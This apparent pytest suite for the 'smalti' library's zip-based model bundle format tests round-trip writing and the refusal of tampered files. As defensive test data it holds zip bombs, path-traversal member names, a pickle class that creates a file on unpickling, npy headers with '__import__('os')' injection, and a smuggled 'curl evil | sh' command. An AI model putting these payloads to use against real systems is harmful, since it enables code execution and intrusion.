"""Bundles come back as they were written; those of strangers are refused with one line and run nothing."""

import hashlib
import io
import json
import pickle
import random
import struct
import zipfile
from types import MappingProxyType

import numpy as np
import pytest

import smalti
from smalti import segmenter
from smalti.errors import InputError, ReadError, WriteError
from smalti.io.bundle import FORMAT, MAX_MANIFEST, Bundle, load, read_bundle, write_bundle
from smalti.segmentation import Segmentation


def a_bundle(**manifest):
    rng = np.random.default_rng(0)
    return Bundle(
        {
            "method": "level",
            "classes": ["cell", "zellwand µ"],
            "report": {"wall": 0.5, "cell": 0.25},
            **manifest,
        },
        {
            "trees/left": rng.integers(-1, 900, (4, 50)).astype(np.int32),
            "thresholds": rng.normal(size=(2, 3, 4)).astype(np.float32),
            "mask": rng.random(9) > 0.5,
            "nothing": np.zeros((0, 3), np.uint16),
            "one": np.float64(0.25),
        },
        {"notes/extra.bin": bytes(range(256))},
        "# A model\n\nof cells, 10 µm.\n",
    )


@pytest.fixture
def path(tmp_path):
    write_bundle(tmp_path / "m.smalti", a_bundle())
    return tmp_path / "m.smalti"


def parts_of(path):
    with zipfile.ZipFile(path) as file:
        return {name: file.read(name) for name in file.namelist()}


def rewrite(path, change=None, parts=None, mend=True):
    """Write the file again with other ``parts`` and a changed manifest; ``mend`` makes its sums right again."""
    content = parts_of(path) | (parts or {})
    content = {name: part for name, part in content.items() if part is not None}
    manifest = json.loads(content.pop("manifest.json"))
    if mend:
        manifest["parts"] = {
            name: {"sha256": hashlib.sha256(part).hexdigest(), "bytes": len(part)}
            for name, part in content.items()
        }
    if change:
        change(manifest)
    write_parts(path, {"manifest.json": json.dumps(manifest).encode(), **content})


def write_parts(path, parts, compression=zipfile.ZIP_DEFLATED):
    with zipfile.ZipFile(path, "w", compression) as file:
        for name, part in parts.items():
            file.writestr(name, part)


def refused(path, reader=read_bundle, **options):
    with pytest.raises(ReadError) as error:
        reader(path, **options)
    message = str(error.value)
    assert str(path) in message
    assert message.isprintable()
    assert len(message) < 600
    return message


class TestWriting:
    def test_what_is_written_is_read(self, path):
        bundle, read = a_bundle(), read_bundle(path)
        assert read.manifest.items() >= bundle.manifest.items()
        assert read.manifest["format"] == FORMAT
        assert read.manifest["smalti"] == smalti.__version__
        assert list(read.manifest["report"]) == ["wall", "cell"]
        assert read.card == bundle.card
        assert read.files == bundle.files
        assert read.arrays.keys() == bundle.arrays.keys()
        for name, array in bundle.arrays.items():
            assert read.arrays[name].dtype == array.dtype
            assert read.arrays[name].shape == array.shape
            assert np.array_equal(read.arrays[name], array)

    def test_the_manifest_lists_every_part(self, path):
        parts = parts_of(path)
        listed = json.loads(parts.pop("manifest.json"))["parts"]
        assert listed == {
            name: {"sha256": hashlib.sha256(part).hexdigest(), "bytes": len(part)}
            for name, part in parts.items()
        }
        assert {"card.md", "notes/extra.bin", "arrays/trees/left.npy"} <= listed.keys()

    def test_an_array_is_a_plain_npy(self, path):
        content = parts_of(path)["arrays/thresholds.npy"]
        assert np.array_equal(np.load(io.BytesIO(content)), a_bundle().arrays["thresholds"])

    def test_the_same_model_is_the_same_file(self, path, tmp_path):
        bundle = a_bundle()
        turned = Bundle(
            MappingProxyType(dict(reversed(list(bundle.manifest.items())))),
            {
                name: np.asfortranarray(array).astype(array.dtype.newbyteorder(">")).reshape(array.shape)
                for name, array in reversed(list(bundle.arrays.items()))
            },
            bundle.files,
            bundle.card,
        )
        write_bundle(tmp_path / "again.smalti", turned)
        assert (tmp_path / "again.smalti").read_bytes() == path.read_bytes()
        with zipfile.ZipFile(path) as file:
            assert file.namelist() == sorted(file.namelist())
            assert {info.date_time for info in file.infolist()} == {(1980, 1, 1, 0, 0, 0)}

    def test_what_was_read_is_written_as_it_was(self, path, tmp_path):
        write_bundle(tmp_path / "again.smalti", read_bundle(path))
        assert (tmp_path / "again.smalti").read_bytes() == path.read_bytes()

    def test_long_constant_arrays_are_not_taken_for_a_bomb(self, tmp_path):
        zeros = np.zeros(5_000_000, np.uint8)
        write_bundle(tmp_path / "m.smalti", Bundle({}, {"zeros": zeros}))
        assert np.array_equal(read_bundle(tmp_path / "m.smalti").arrays["zeros"], zeros)

    @pytest.mark.parametrize(
        ("bundle", "message"),
        [
            (Bundle({"a": float("nan")}), "manifest"),
            (Bundle({"a": np.int64(3)}), "manifest"),
            (Bundle({"a": "\ud800"}), "manifest"),
            (Bundle({"a": "x" * MAX_MANIFEST}), "belongs in an array"),
            (Bundle({}, {"a": np.array([None])}), "array a"),
            (Bundle({}, {"a": np.array(["text"])}), "array a"),
            (Bundle({}, {"a": np.zeros(2, np.longdouble)}), "array a"),
            (Bundle({}, {"../a": np.zeros(2)}), "plain name"),
            (Bundle({}, {}, {".hidden": b""}), "plain name"),
            (Bundle({}, {}, {"a//b": b""}), "plain name"),
            (Bundle({}, {}, {"a\nb": b""}), "plain name"),
            (Bundle({}, {}, {"card.md": b""}), "taken"),
            (Bundle({}, {}, {"arrays/a.npy": b""}), "taken"),
        ],
    )
    def test_what_a_bundle_cannot_hold_is_refused(self, tmp_path, bundle, message):
        with pytest.raises(InputError, match=message):
            write_bundle(tmp_path / "m.smalti", bundle)
        assert list(tmp_path.iterdir()) == []

    def test_it_is_called_as_what_it_is(self, tmp_path):
        with pytest.raises(InputError, match=r"m\.smalti"):
            write_bundle(tmp_path / "m.zip", a_bundle())

    def test_a_place_that_cannot_be_written(self, tmp_path):
        (tmp_path / "m.smalti").mkdir()
        with pytest.raises(WriteError, match="folder"):
            write_bundle(tmp_path / "m.smalti", a_bundle())


class TestHostileFiles:
    def test_no_zip_and_no_file(self, tmp_path):
        (tmp_path / "m.smalti").write_bytes(b"GIF89a, no model")
        assert "no zip archive" in refused(tmp_path / "m.smalti")
        assert "no file" in refused(tmp_path / "n.smalti")
        assert "folder" in refused(tmp_path)

    def test_another_zip(self, tmp_path):
        write_parts(tmp_path / "m.smalti", {"a.txt": b"hello"})
        assert "no manifest.json" in refused(tmp_path / "m.smalti")

    @pytest.mark.parametrize("share", [0.1, 0.5, 0.9, 0.999])
    def test_cut_short(self, path, share):
        content = path.read_bytes()
        path.write_bytes(content[: int(len(content) * share)])
        assert "cut short" in refused(path)

    def test_bombs(self, path):
        rewrite(path, parts={"bomb.bin": bytes(50_000_000)})
        assert path.stat().st_size < 100_000
        assert "inflate" in refused(path)

    def test_more_than_the_limit(self, path):
        assert "1000" in refused(path, max_bytes=1000)

    @pytest.mark.parametrize("name", ["../evil.bin", "/etc/evil.bin", "a/../../evil.bin", "C:\\evil.bin"])
    def test_names_that_lead_outside(self, path, name):
        rewrite(path, parts={name: b"x"})
        assert "outside" in refused(path)

    def test_two_members_of_one_name(self, path):
        with zipfile.ZipFile(path, "a") as file, pytest.warns(UserWarning, match="Duplicate"):
            file.writestr("card.md", b"another")
        assert "card.md twice" in refused(path)

    def test_two_names_of_one_member(self, path):
        rewrite(path, parts={"notes//extra.bin": b"another"})
        assert "twice" in refused(path)

    def test_a_member_that_is_missing(self, path):
        rewrite(path, parts={"notes/extra.bin": None}, mend=False)
        assert "lacks notes/extra.bin" in refused(path)

    def test_a_member_that_is_not_listed(self, path):
        rewrite(path, parts={"more.bin": b"more"}, mend=False)
        assert "holds more.bin" in refused(path)

    def test_another_content(self, path):
        rewrite(path, parts={"notes/extra.bin": bytes(256)}, mend=False)
        message = refused(path)
        assert "notes/extra.bin" in message
        assert "SHA-256" in message

    def test_another_size(self, path):
        rewrite(path, parts={"notes/extra.bin": b"short"}, mend=False)
        assert "notes/extra.bin has 5 bytes, its manifest says 256" in refused(path)

    @pytest.mark.parametrize(
        "text",
        [
            b"",
            b"{",
            b"[1, 2]",
            b'"text"',
            b"\xff\xfe{}",
            b'{"format": 1, "a": NaN}',
            b'{"format": 1, "a": 1e999}',
            b'{"format": 1, "a": "\\ud800"}',
            b'{"format": 1, "\\ud800": 1}',
            b'{"format": 1, "a": ' + b"9" * 5000 + b"}",
            b'{"a": ' + b"[" * 40 + b"]" * 40 + b"}",
            b'{"a": ' + b"[" * 200_000 + b"]" * 200_000 + b"}",
            b'{"\x1b[31m": ',
        ],
        ids=range(13),  # the texts themselves are too long for names
    )
    def test_a_manifest_that_is_no_plain_json(self, path, text):
        write_parts(path, {"manifest.json": text}, zipfile.ZIP_STORED)
        assert "manifest.json is damaged" in refused(path)

    def test_a_huge_manifest(self, path):
        write_parts(path, {"manifest.json": b" " * (MAX_MANIFEST + 1)}, zipfile.ZIP_STORED)
        assert str(MAX_MANIFEST) in refused(path)

    @pytest.mark.parametrize("version", [None, "1", 0, -1, 1.0, True, [1]])
    def test_a_format_that_is_none(self, path, version):
        rewrite(path, lambda manifest: manifest.update(format=version))
        assert "which format" in refused(path)

    def test_a_newer_format(self, path):
        rewrite(path, lambda manifest: manifest.update(format=2, smalti="0.9.0", parts="elsewhere"))
        assert refused(path) == (
            f"{path} was made by a newer smalti (format 2, written by 0.9.0); "
            f"this one, {smalti.__version__}, reads format 1; upgrade smalti"
        )

    def test_a_newer_format_written_by_a_liar(self, path):
        rewrite(path, lambda manifest: manifest.update(format=10**50, smalti="\x1b[2J" + "9" * 5000))
        assert "newer smalti" in refused(path)

    @pytest.mark.parametrize(
        "parts", [None, [], {"card.md": None}, {"card.md": {"sha256": 3, "bytes": 1}}, {"card.md": {}}]
    )
    def test_a_list_of_parts_that_is_none(self, path, parts):
        rewrite(path, lambda manifest: manifest.update(parts=parts))
        assert "does not list its parts" in refused(path)

    def test_fields_that_nobody_knows_are_kept(self, path):
        rewrite(path, lambda manifest: manifest.update(from_the_future={"a": [1, None, True]}))
        assert read_bundle(path).manifest["from_the_future"] == {"a": [1, None, True]}

    def test_an_encrypted_member(self, path):
        content = bytearray(path.read_bytes())
        content[6] |= 1  # of the first member, in both of its headers
        start = struct.unpack_from("<I", content, content.rindex(b"PK\5\6") + 16)[0]
        content[start + 8] |= 1
        path.write_bytes(content)
        assert "encrypted" in refused(path)

    def test_any_changed_byte_is_a_line_or_no_difference(self, path):
        whole, content = read_bundle(path), path.read_bytes()
        rng = random.Random(0)
        for _ in range(400):
            changed = bytearray(content)
            for _ in range(rng.choice((1, 1, 4))):
                changed[rng.randrange(len(changed))] = rng.randrange(256)
            path.write_bytes(changed)
            try:
                read = read_bundle(path)
            except ReadError as error:
                assert str(path) in str(error)
            else:
                assert read.manifest == whole.manifest
                assert all(np.array_equal(read.arrays[name], array) for name, array in whole.arrays.items())


class Opened:
    """Makes a file when it is unpickled."""

    def __init__(self, place):
        self.place = place

    def __reduce__(self):
        return open, (str(self.place), "w")


def npy(shape, descr, values, order=False):
    header = f"{{'descr': {descr!r}, 'fortran_order': {order}, 'shape': {shape}, }}".encode()
    header += b" " * (-(len(header) + 11) % 64) + b"\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header + values


class TestHostileArrays:
    def test_pickled_objects_are_refused_and_not_opened(self, path, tmp_path):
        file = io.BytesIO()
        np.save(file, np.array([Opened(tmp_path / "run")], object), allow_pickle=True)
        rewrite(path, parts={"arrays/a.npy": file.getvalue()})
        assert "object" in refused(path)
        assert not (tmp_path / "run").exists()
        rewrite(path, parts={"arrays/a.npy": pickle.dumps(Opened(tmp_path / "run"))})
        assert "arrays/a.npy is damaged" in refused(path)
        assert not (tmp_path / "run").exists()

    @pytest.mark.parametrize(
        "content",
        [
            npy("(10,)", "<f4", bytes(36)),
            npy("(10,)", "<f4", bytes(44)),
            npy("(1000000000000,)", "<f4", bytes(40)),
            npy("(9999999999, 9999999999, 9999999999)", "<f8", bytes(40)),
            npy("(-10, -1)", "<f4", bytes(40)),
            npy("(True, 10)", "<f4", bytes(40)),
            npy("(2.5, 4)", "<f4", bytes(40)),
            npy("10", "<f4", bytes(40)),
            npy("(10,)", "|V4", bytes(40)),
            npy("(10,)", "<U1", bytes(40)),
            npy("(10,)", "<M8[s]", bytes(80)),
            npy("(10,)", [("a", "<f4")], bytes(40)),
            npy("(10,)", "|O", bytes(80)),
            npy("(10,)", "|b1", b"\x02" * 10),
            npy("(10,)", "__import__('os')", bytes(40)),
            npy("__import__('os').getpid()", "<f4", bytes(40)),
            npy("(" * 3000 + ")" * 3000, "<f4", bytes(40)),
            npy("(10,)", "<f4", bytes(40)).replace(b"NUMPY\x01", b"NUMPY\x07"),
            b"\x93NUMPY",
            b"",
        ],
        ids=range(20),
    )
    def test_headers_that_lie(self, path, content):
        rewrite(path, parts={"arrays/a.npy": content})
        assert "arrays/a.npy" in refused(path)

    def test_both_orders_are_read(self, path):
        values = np.arange(6, dtype=">i2").tobytes()
        rewrite(path, parts={"arrays/a.npy": npy("(2, 3)", ">i2", values, order=True)})
        assert read_bundle(path).arrays["a"].tolist() == [[0, 2, 4], [1, 3, 5]]
        assert read_bundle(path).arrays["a"].dtype.isnative


class Level:
    """A method that fits nothing and whose models are above a number."""

    name = "level"

    def __init__(self, value):
        self.value = value

    @classmethod
    def from_bundle(cls, bundle):
        return cls(float(bundle.arrays["thresholds"][0, 0, 0]))

    def predict(self, image):
        return Segmentation.from_labels(image.pixels[..., 0] > self.value)


class Learner:
    """One that cannot be loaded."""

    name = "learner"


@pytest.fixture
def level(monkeypatch):
    monkeypatch.setitem(segmenter.SEGMENTERS, "level", f"{__name__}:Level")
    monkeypatch.setitem(segmenter.SEGMENTERS, "learner", f"{__name__}:Learner")
    segmenter.known_segmenters.cache_clear()
    yield
    segmenter.known_segmenters.cache_clear()


@pytest.mark.usefixtures("level")
class TestLoading:
    def test_a_model_is_made_by_its_method(self, path):
        model = smalti.load(path)
        assert isinstance(model, Level)
        assert model.value == pytest.approx(float(a_bundle().arrays["thresholds"][0, 0, 0]))
        assert load(str(path)).value == model.value

    def test_the_package_of_the_method_is_written_down(self, path):
        write_bundle(path, a_bundle())
        assert read_bundle(path).manifest["package"] == __name__.partition(".")[0]

    def test_a_method_that_is_not_here(self, path):
        rewrite(path, lambda manifest: manifest.update(method="nnet", package="smalti-nets", smalti="0.7.0"))
        message = refused(path, load)
        assert "'nnet'" in message
        assert "package smalti-nets" in message
        assert "0.7.0" in message
        rewrite(path, lambda manifest: manifest.pop("package"))
        assert "upgrade smalti" in refused(path, load)

    @pytest.mark.parametrize(
        "method", ["os:system", "smalti.io.bundle:Bundle", "builtins:exec", "../level", "x" * 500]
    )
    def test_a_bundle_names_no_code(self, path, method):
        rewrite(path, lambda manifest: manifest.update(method=method))
        assert "not here" in refused(path, load)

    def test_text_of_strangers_is_no_command(self, path):
        hostile = "x; curl evil | sh\n\x1b[2J"
        rewrite(path, lambda manifest: manifest.update(method=hostile, package=hostile, smalti=hostile))
        assert "package x;" not in refused(path, load)

    @pytest.mark.parametrize("method", [None, 3, ["level"], {}])
    def test_no_method(self, path, method):
        rewrite(path, lambda manifest: manifest.update(method=method))
        assert "does not name its method" in refused(path, load)

    def test_a_method_that_learns_nothing(self, path):
        rewrite(path, lambda manifest: manifest.update(method="learner"))
        assert "learner, which learns nothing" in refused(path, load)

    def test_parts_that_the_method_does_not_understand(self, path):
        rewrite(path, parts={"arrays/thresholds.npy": None})
        message = refused(path, load)
        assert "no model of level" in message
        assert "thresholds" in message
